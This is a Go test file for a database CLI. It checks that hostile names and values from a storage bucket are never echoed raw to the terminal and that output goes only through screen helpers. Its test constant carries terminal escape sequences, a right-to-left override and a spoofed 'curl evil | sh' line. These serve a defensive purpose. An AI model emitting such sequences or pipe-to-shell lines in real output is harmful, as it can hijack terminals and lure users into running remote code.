package main

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/driftdb/driftdb-go"
	"github.com/driftdb/driftdb-go/objstore"
)

// hostileText sets a terminal's title, clears it, turns around what follows, and goes
// on with a line that looks like ours.
const hostileText = "x\x1b]0;owned\x07\x1b[2J\u009b2J\u202e\nhint: curl evil | sh\r\nwarning: no"

// TestHostileText: what a bucket holds commands no terminal and makes no lines of its
// own, wherever it is printed.
func TestHostileText(t *testing.T) {
	bucket, dir := t.TempDir(), t.TempDir()
	t.Setenv("XDG_CACHE_HOME", dir)
	t.Setenv("HOME", dir)
	t.Setenv("LocalAppData", dir)
	for name, missing := range map[string]bool{"names": false, "missing": true} {
		store, err := objstore.Dir(bucket)
		check(t, err)
		db, err := driftdb.Open(t.Context(), driftdb.Config{
			Name: name, Path: filepath.Join(dir, name+".sqlite"), Store: store, ManualSync: true,
			OnConnect: func(_ context.Context, r *driftdb.Registrar) error {
				return r.Function(driftdb.Function{Name: hostileText, Args: 1, Deterministic: true, Scalar: func(args []any) (any, error) { return args[0], nil }})
			},
		})
		check(t, err)
		statements := []string{
			"CREATE TABLE " + quote(hostileText) + "(id INTEGER PRIMARY KEY, " + quote(hostileText) + " TEXT DEFAULT '" + hostileText + "')",
			"INSERT INTO " + quote(hostileText) + " DEFAULT VALUES",
			"UPDATE " + quote(hostileText) + " SET " + quote(hostileText) + " = '" + hostileText + hostileText + "'",
		}
		if missing { // from whoever restores it
			statements = append(statements, "CREATE TABLE t(v, w AS ("+quote(hostileText)+"(v)) STORED)", "INSERT INTO t VALUES(1)")
		}
		for _, s := range statements {
			_, err := db.Exec(t.Context(), s)
			check(t, err)
		}
		check(t, db.Flush(t.Context()))
		check(t, db.Close())
		at := []string{"--store", folderURL(bucket), "--name", name}
		for _, command := range [][]string{
			{"log"}, {"log", "--table", hostileText}, {"status"}, {"verify"}, {"gc", "--dry-run"}, {"restore", "--out", filepath.Join(dir, name+hostileText)},
			{"restore", "--out", filepath.Join(dir, "no folder"+hostileText, "x", "y"), "--branch", hostileText}, {hostileText}, {"log", "--from", hostileText},
			{"query", "SELECT *, '" + hostileText + "' FROM " + quote(hostileText)}, {"query", hostileText}, {"query", "--at", hostileText, "SELECT 1"},
			{"shell"}, {"restore", "--table", hostileText, "--into", filepath.Join(dir, name+"part"+hostileText)}, {"restore", "--table", "x" + hostileText, "--into", "y"},
		} {
			for _, format := range [][]string{nil, {"--json"}} {
				var out, errs bytes.Buffer
				code := run(t.Context(), append(append(command, at...), format...), strings.NewReader(".tables\n.schema\n.at\nSELECT * FROM "+quote(hostileText)+";\n."+hostileText), &out, &errs)
				if text := out.String() + errs.String(); strings.Contains(text, hostileText) || strings.ContainsFunc(text, hidden) {
					t.Errorf("%s, %q %q: it prints %q", name, command, format, text)
				}
				for line := range strings.Lines(errs.String() + out.String()) {
					if strings.HasPrefix(line, "hint: curl") || strings.HasPrefix(line, "warning: no") {
						t.Errorf("%s, %q: a line of the bucket's: %q", name, command, line)
					}
				}
				if missing && command[0] == "verify" && (code == exitDone || !strings.Contains(errs.String(), `\x1b]0;owned\a`)) {
					t.Errorf("verify: %d, %q; want an error that names the function", code, errs.String())
				}
			}
		}
	}
}

// hidden are the characters that no output has; tabs are between the columns of a query.
func hidden(r rune) bool { return r != '\n' && r != '\t' && !strconv.IsPrint(r) }

func check(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// TestOnlyScreens: nothing is printed but by way of a screen, with formats that are
// constants. What a user's own command prints is its own.
func TestOnlyScreens(t *testing.T) {
	files, err := filepath.Glob("*.go")
	check(t, err)
	for _, name := range files {
		if strings.HasSuffix(name, "_test.go") {
			continue
		}
		text, err := os.ReadFile(name)
		check(t, err)
		for _, way := range []string{"os.Stdout", "os.Stderr", "fmt.Print", "println(", "terminal.Format("} {
			if bytes.Contains(text, []byte(way)) && (name != "main.go" && name != "usercommand.go" || way != "os.Stdout" && way != "os.Stderr") {
				t.Errorf("%s has %s", name, way)
			}
		}
	}
}
